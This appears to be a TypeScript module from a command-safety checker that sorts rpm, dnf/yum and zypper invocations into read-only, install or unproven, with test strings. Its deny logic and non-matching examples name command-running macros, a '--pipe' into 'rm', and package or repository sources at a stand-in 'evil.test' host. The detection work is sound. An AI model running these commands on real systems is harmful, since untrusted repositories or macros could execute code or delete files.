import { effects, networkFact, notProven } from '../effects.ts';
import { compile, judge } from '../leaf.ts';
import type { Program } from '../program.ts';
import { asks, looks, manager } from './manager.ts';

const query = compile({
  flags:
    '-q -a -i -l -R -f -c -d -s -v --query --all --info --list --requires --provides --conflicts --obsoletes --recommends --suggests --file ' +
    '--configfiles --docfiles --state --scripts --changelog --last --filesbypkg',
  values: '--whatprovides --whatrequires --whatconflicts --whatrecommends --queryformat --qf',
  operands: 'text',
  check: ({ operands, options }) =>
    [...operands, ...options.map(({ value }) => value)].some((word) => /%(\(|\{\s*lua)/.test(word?.value ?? ''))
      ? 'a macro can run a command'
      : undefined,
});

/** Only what begins as a query is one: `-i` alone installs. A package file, which may be an address, takes `-p`. */
export const rpm: Program = {
  names: ['rpm'],
  effects: ({ args }) => {
    const facts = [{ kind: 'package_install', manager: 'rpm' }, networkFact('rpm', 'download')] as const;
    const [first] = args;
    if (args.length === 1 && first?.value === '--version') return effects('read-only', { words: 0 });
    if (first?.kind === 'static' && /^(-q|--query$)/.test(first.value)) return judge(query, args);
    if (
      args.some(
        ({ kind, value }) => kind !== 'static' || /^(--eval|-E|--define|-D|--root|-r|--dbpath|--pipe|--load|--macros|--rcfile)/.test(value),
      )
    )
      return notProven('an option changes what the package manager does or runs', { facts });
    return effects('install', { none: 'it installs packages' }, { facts });
  },
  match: { 'rpm -qa': 'read-only', 'rpm -qi bash': 'read-only', 'rpm -i x.rpm': 'install' },
  notMatch: [
    'rpm -i x',
    "rpm -q --qf '%(id)' x",
    'rpm -qp --eval x',
    'rpm -qp http://evil.test/x.rpm',
    "rpm -qa --pipe 'rm y'",
    'rpm -q --define x y',
  ],
};

const SHOWN =
  '-a -i -l --all --installed --available --updates --upgrades --extras --obsoletes --recent --showduplicates --cacheonly -C --enabled --disabled ' +
  '--requires --provides --conflicts --info --list --location --userinstalled --leaves --duplicates --unneeded --hidden --ids --refresh';

/** They keep their lists of packages fresh by themselves. */
export const dnf = manager({
  names: ['dnf', 'yum', 'dnf5', 'microdnf'],
  globals: '-C --cacheonly',
  reads: {
    'list|info|search|provides|whatprovides|repolist|repoinfo|repoquery|rq|deplist|check-update|check-upgrade|updateinfo|advisory list|advisory info|history|history list|history info|group list|group info|groups list|grouplist|groupinfo|module list|module info|check|leaves|needs-restarting|help':
      asks('dnf', SHOWN, '--repo --repoid --enablerepo --disablerepo --whatprovides --whatrequires --qf --queryformat --arch --releasever'),
    'history undo|history redo|history rollback|history replay': () =>
      effects('install', { none: 'it changes what is installed' }, { facts: [{ kind: 'package_install', manager: 'dnf' }] }),
  },
  changes:
    'install|reinstall|remove|erase|autoremove|update|upgrade|upgrade-minimal|downgrade|distro-sync|swap|localinstall|group|groups|groupinstall|module|mark|clean|makecache|config-manager|copr|builddep|download|system-upgrade|offline-upgrade',
  match: { 'dnf list installed': 'remote-read', 'dnf install x': 'install', 'yum search x': 'remote-read' },
  notMatch: [
    'dnf --setopt=x=y list',
    'dnf -c ./x list',
    'dnf list --repofrompath=a,http://evil.test',
    'dnf history undo last',
    'dnf shell',
  ],
});

export const zypper = manager({
  names: ['zypper'],
  globals: '-n -x -t --non-interactive --no-refresh --xmlout --terse',
  reads: {
    'search|se|info|if|list-updates|lu|list-patches|lp|patch-check|pchk|packages|pa|patterns|pt|products|pd|patches|pch|what-provides|wp|locks|ll|targetos|versioncmp|help|licenses':
      asks(
        'zypper',
        '-s -i -u -n -d -x --details --installed-only --not-installed-only --uninstalled-only --match-exact --provides --requires --search-descriptions',
      ),
    'repos|lr|services|ls': looks('-a -n -p -P -r -E --alias --name --priority --refresh'),
  },
  changes:
    'install|in|remove|rm|update|up|dist-upgrade|dup|patch|refresh|ref|addrepo|ar|removerepo|rr|modifyrepo|mr|renamerepo|nr|clean|cc|verify|ve|source-install|si|addlock|al|removelock|rl|download',
  match: { 'zypper se vim': 'remote-read', 'zypper in x': 'install' },
  notMatch: ['zypper --root /x se y', 'zypper --plus-repo http://evil.test se x', 'zypper lr -e out', 'zypper shell'],
});
